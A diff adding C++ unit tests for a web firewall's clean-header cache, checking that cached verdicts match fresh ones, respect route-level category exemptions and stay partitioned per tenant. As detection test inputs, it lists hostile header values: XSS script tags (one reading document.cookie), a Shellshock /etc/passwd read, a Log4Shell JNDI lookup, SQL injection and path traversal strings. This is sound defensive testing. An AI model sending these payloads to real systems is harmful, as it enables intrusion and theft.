@@ -336,3 +336,101 @@ TEST(AlnumValues, BareWordRulesStillApply) {
 
 }  // namespace
 }  // namespace shieldx::detect
+
+namespace shieldx::detect {
+namespace {
+
+std::string VerdictKey(const Verdict& v) {
+  std::string k = std::string(ActionName(v.action)) + " " + std::to_string(v.score);
+  for (const Finding& f : v.findings) {
+    k += " " + f.rule + "@" + f.field + "=" + std::to_string(f.confidence) + ":" + f.excerpt;
+  }
+  return k;
+}
+
+OwnedHttpRequest WithHeaders(const std::string& ua, const std::string& referer,
+                             const std::string& custom) {
+  OwnedHttpRequest r = testing::Get("/page?id=7");
+  r.headers = {{"Host", "shop.example"},
+               {"User-Agent", ua},
+               {"Referer", referer},
+               {"X-Client-Note", custom}};
+  return r;
+}
+
+// The clean-header cache (inspector.h) must not change a verdict: header values clean,
+// weak and hostile, each request seen several times and interleaved with others on one
+// Scratch, give exactly the verdict a fresh Scratch gives.
+TEST(CleanHeaderCache, RepeatedAndInterleavedHeadersGiveTheFreshVerdict) {
+  const std::vector<std::string> values = {
+      "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
+      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+      "https://shop.example/cart?step=2",
+      "<script>alert(1)</script>",
+      "() { :; }; /bin/cat /etc/passwd",
+      "${jndi:ldap://x.example/a}",
+      "1 and 2",
+      "x' or '1'='1",
+      "sqlmap/1.7",
+      "https://www.google.com/search?q=shoes",
+      "../../../../etc/passwd",
+      "plain note",
+  };
+  std::vector<OwnedHttpRequest> reqs;
+  for (std::size_t i = 0; i < values.size(); ++i) {
+    for (std::size_t j = 0; j < values.size(); j += 5) {
+      reqs.push_back(WithHeaders(values[i], values[j], values[(i + j) % values.size()]));
+    }
+  }
+  const Inspector& in = testing::DefaultInspector();
+  std::vector<std::string> fresh;
+  for (const OwnedHttpRequest& r : reqs) fresh.push_back(VerdictKey(InspectWith(in, r)));
+  auto scratch = in.NewScratch();
+  std::mt19937 rng(7);
+  for (int round = 0; round < 4; ++round) {
+    std::vector<std::size_t> order(reqs.size());
+    for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
+    std::shuffle(order.begin(), order.end(), rng);
+    for (std::size_t i : order) {
+      EXPECT_EQ(VerdictKey(in.Inspect(reqs[i].view(), *scratch)), fresh[i])
+          << "round " << round << " request " << i;
+    }
+  }
+}
+
+// A route that disables a category drops that category's findings, so a value can look clean
+// there; it must still be judged on a route that does not.
+TEST(CleanHeaderCache, AValueCleanOnlyBecauseARouteDisablesACategoryIsNotRemembered) {
+  auto in = Make(R"({"routes":[{"path_prefix":"/cms/","disabled_categories":["xss"]}]})");
+  auto scratch = in->NewScratch();
+  OwnedHttpRequest cms = testing::Get("/cms/edit");
+  cms.headers.emplace_back("X-Preview", "<script>alert(document.cookie)</script>");
+  OwnedHttpRequest shop = testing::Get("/shop");
+  shop.headers.emplace_back("X-Preview", "<script>alert(document.cookie)</script>");
+  EXPECT_FALSE(Flagged(in->Inspect(cms.view(), *scratch)));
+  EXPECT_FALSE(Flagged(in->Inspect(cms.view(), *scratch)));
+  EXPECT_TRUE(Flagged(in->Inspect(shop.view(), *scratch)));
+}
+
+// Remembered values are per partition (a tenant): one tenant's traffic does not make another
+// tenant's requests faster, so timing reveals nothing across tenants.
+TEST(CleanHeaderCache, RemembersPerPartition) {
+  const Inspector& in = testing::DefaultInspector();
+  auto scratch = in.NewScratch();
+  OwnedHttpRequest r = WithHeaders("Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0",
+                                   "https://shop.example/cart?step=2", "plain note");
+  scratch->SetCachePartition(1);
+  in.Inspect(r.view(), *scratch);
+  EXPECT_EQ(scratch->clean_header_hits(), 0u);
+  in.Inspect(r.view(), *scratch);
+  const uint64_t hits = scratch->clean_header_hits();
+  EXPECT_GE(hits, 3u);  // User-Agent, Referer, X-Client-Note
+  scratch->SetCachePartition(2);
+  in.Inspect(r.view(), *scratch);
+  EXPECT_EQ(scratch->clean_header_hits(), hits);
+  in.Inspect(r.view(), *scratch);
+  EXPECT_GT(scratch->clean_header_hits(), hits);
+}
+
+}  // namespace
+}  // namespace shieldx::detect
